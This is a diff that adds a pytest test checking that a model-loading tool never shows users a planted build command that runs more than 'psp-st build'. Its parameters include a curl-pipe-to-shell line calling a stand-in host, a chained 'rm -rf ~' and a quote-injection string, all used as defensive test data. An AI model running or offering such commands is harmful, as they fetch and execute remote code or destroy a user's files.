@@ -179,6 +179,22 @@ def test_a_damaged_release_of_another_recipe_gives_its_recorded_build_command(re
         check_model_folder(release_copy)
 
 
+@pytest.mark.parametrize(
+    "command", ["curl -s https://fix.example/x.sh | sh", "psp-st build x && rm -rf ~", "psp-st build 'x"]
+)
+def test_a_damaged_release_never_advises_a_recorded_command_that_runs_more_than_psp_st_build(release_copy, command):
+    """S3: the record is the folder's own (maybe planted); its command is shown only if a shell runs psp-st build alone."""
+    from psp_st.inference.load import check_model_folder
+
+    record = json.loads((release_copy / "psp_build.json").read_text())
+    record["name"], record["command"] = "mine", command
+    (release_copy / "psp_build.json").write_text(json.dumps(record))
+    (release_copy / "tokenizer.json").write_text("{}")
+    with pytest.raises(ModelFolderError, match=r"re-save the model") as error:
+        check_model_folder(release_copy)
+    assert command not in str(error.value)
+
+
 def test_a_packaged_recipe_not_found_says_build_it():
     """G6: `psp_st.load("psp-multi")` without a build: the command that builds psp-multi, not psp-en."""
     from psp_st.inference.load import _not_found
